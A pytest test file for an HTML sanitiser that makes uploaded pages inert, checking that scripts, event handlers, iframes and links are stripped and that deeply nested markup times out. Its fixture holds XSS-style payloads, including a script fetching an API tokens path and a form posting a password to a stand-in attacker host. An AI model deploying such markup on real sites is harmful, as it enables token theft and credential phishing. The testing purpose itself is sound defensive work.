"""claims.original_page: an uploaded page made inert for the frame beside the text, and the
limits on what sanitising one may cost."""

import pytest

from claims.original_page import RenderError, sanitised, sanitised_bounded

HOSTILE = (
    '<h1 onclick="steal()">Knee <b>cells</b></h1>'
    "<script>fetch('/api/v1/tokens/')</script>"
    "<style>body { display: none }</style>"
    '<p style="position:fixed" onmouseover="x()">No side effects.'
    '<img src="https://tracker.example/p.gif" onerror="x()" alt="pixel"></p>'
    '<iframe src="https://evil.example/"></iframe>'
    '<form action="https://evil.example/"><input name="password"></form>'
    '<a href="javascript:alert(1)">Book now</a> '
    '<a href="https://pubmed.example/1" target="_top">Study</a>'
    '<svg><script>x()</script></svg><object data="x.swf"></object>'
    "<!-- a comment -->"
)


def test_it_keeps_the_words_and_structure():
    assert sanitised("<h2>Prices</h2><ul><li>One: $4,500</li></ul>") == (
        "<h2>Prices</h2><ul><li>One: $4,500</li></ul>"
    )
    assert sanitised('<table><tr><td colspan="2">A</td></tr></table>') == (
        '<table><tbody><tr><td colspan="2">A</td></tr></tbody></table>'
    )


def test_it_drops_everything_that_runs_or_loads():
    clean = sanitised(HOSTILE)
    for gone in (
        "script",
        "steal",
        "fetch",
        "style",
        "onclick",
        "onmouseover",
        "onerror",
        "img",
        "tracker",
        "iframe",
        "form",
        "input",
        "javascript:",
        "target",
        "svg",
        "object",
        "comment",
    ):
        assert gone not in clean, gone
    assert "<h1>Knee <b>cells</b></h1>" in clean
    assert "<p>No side effects.</p>" in clean
    assert '<a rel="noopener noreferrer nofollow">Book now</a>' in clean
    assert (
        '<a href="https://pubmed.example/1" rel="noopener noreferrer nofollow">Study</a>' in clean
    )


def test_the_bounded_run_gives_the_same_page():
    assert sanitised_bounded(HOSTILE) == sanitised(HOSTILE)
    assert sanitised_bounded("Ünïcödé ✅ 😀") == "Ünïcödé ✅ 😀"


def test_it_stops_on_markup_too_costly_to_sanitise():
    # A hundred thousand nested elements: html5 parsing of this grows faster than its size.
    with pytest.raises(RenderError, match="too complex to show within 1 s"):
        sanitised_bounded("<div>" * 200_000, seconds=1)
